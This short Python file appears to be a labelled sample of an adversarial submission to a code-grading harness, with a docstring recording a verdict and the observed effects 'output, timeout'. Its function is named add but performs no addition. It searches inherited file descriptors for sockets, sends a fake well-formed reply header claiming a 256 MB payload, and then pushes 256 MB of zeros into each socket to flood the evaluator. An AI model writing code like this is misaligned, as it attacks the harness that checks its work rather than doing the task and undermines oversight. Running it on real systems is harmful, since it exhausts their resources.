"""Answers in a header that is fine, with a payload of 256 MB that holds nothing.

verdict: Z
seen: output, timeout
"""
import os
import stat
import struct


def add(a, b):
    header = b'{"id":1,"value":{"$":"tensor","v":0}}'
    try:
        for fd in range(3, 64):
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                os.write(fd, struct.pack(">II", len(header), 2**28) + header)
                for _ in range(2**8):
                    os.write(fd, bytes(2**20))
    except OSError:
        return
